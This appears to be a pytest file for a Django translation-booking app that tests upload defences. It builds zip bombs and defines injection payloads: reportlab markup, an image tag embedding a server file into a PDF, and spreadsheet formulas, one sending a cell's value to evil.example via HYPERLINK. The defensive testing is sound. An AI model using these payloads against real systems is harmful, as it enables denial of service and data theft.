"""The payloads of the security probe (issue #26), and the hostile files among them.

The zip bombs are built here: a few hundred kilobytes on the wire that unpack to 200 MB. Checking one must
refuse it clearly without unpacking it (peak memory stays far below the bomb). The other payloads are used
by the tests of the app they attack (names that are markup, spreadsheet formulas, NUL in a path).
"""

import io
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from bookings.models import Status
from bookings.uploads import check_document
from tests.factories import InterpreterFactory, OrganisationFactory, TranslationFactory, requester

BOMB_BYTES = 200 * 1024 * 1024
MEMORY_BOUND = 50 * 1024 * 1024

# A name that is reportlab markup, and one that would embed a server-side file into a PDF.
MARKUP_NAME = "O<Brien"
IMAGE_MARKUP = '<img src="{path}" width="40" height="40"/>'
# Cells a spreadsheet would run as formulas.
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
NUL = "\x00"


def server_image(directory) -> str:
    """A file on the server that markup could embed: a real JPEG, so an embedding would show in the PDF."""
    path = directory / "server-secret.jpg"
    Image.new("RGB", (8, 8), "red").save(path, "JPEG")
    return str(path)


def zip_bomb(members: dict[str, bytes], bomb_member: str) -> bytes:
    """A zip with `members` and one member of BOMB_BYTES zeros, written in chunks (the test stays small too)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        with archive.open(bomb_member, "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(BOMB_BYTES // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def odt_bomb() -> bytes:
    return zip_bomb({}, "mimetype")


@pytest.fixture(scope="module")
def docx_bomb() -> bytes:
    return zip_bomb({"[Content_Types].xml": b"<Types/>"}, "word/document.xml")


def refusal_and_peak(upload):
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError) as raised:
            check_document(upload)
        return raised.value, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(("bomb", "name"), [("odt_bomb", "brief.odt"), ("docx_bomb", "brief.docx")])
def test_a_zip_bomb_is_refused_clearly_without_unpacking_it(request, bomb, name):
    content = request.getfixturevalue(bomb)
    assert len(content) < 1024 * 1024

    refusal, peak = refusal_and_peak(SimpleUploadedFile(name, content))

    assert refusal.code == "file_archive"
    assert name in refusal.messages[0]
    assert peak < MEMORY_BOUND


def test_an_odt_mimetype_member_far_larger_than_a_mimetype_is_not_read():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text" + b" " * 500_000)

    refusal, _ = refusal_and_peak(SimpleUploadedFile("brief.odt", buffer.getvalue()))

    assert refusal.code == "file_archive"


@pytest.mark.django_db
def test_a_translator_delivering_a_zip_bomb_is_refused_and_the_translation_stays_open(client, odt_bomb):
    interpreter = InterpreterFactory()
    organisation = OrganisationFactory()
    translation = TranslationFactory(
        status=Status.CONFIRMED,
        interpreter=interpreter,
        organisation=organisation,
        requested_by=requester(organisation),
    )
    client.force_login(interpreter.user)

    tracemalloc.start()
    try:
        response = client.post(
            reverse("interpreter_translation_deliver", args=[translation.pk]),
            {"files": [SimpleUploadedFile("vertaling.odt", odt_bomb)]},
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert response.status_code == 200
    assert "vertaling.odt pakt uit tot veel meer dan een document" in response.content.decode()
    translation.refresh_from_db()
    assert translation.status == Status.CONFIRMED
    assert peak < MEMORY_BOUND
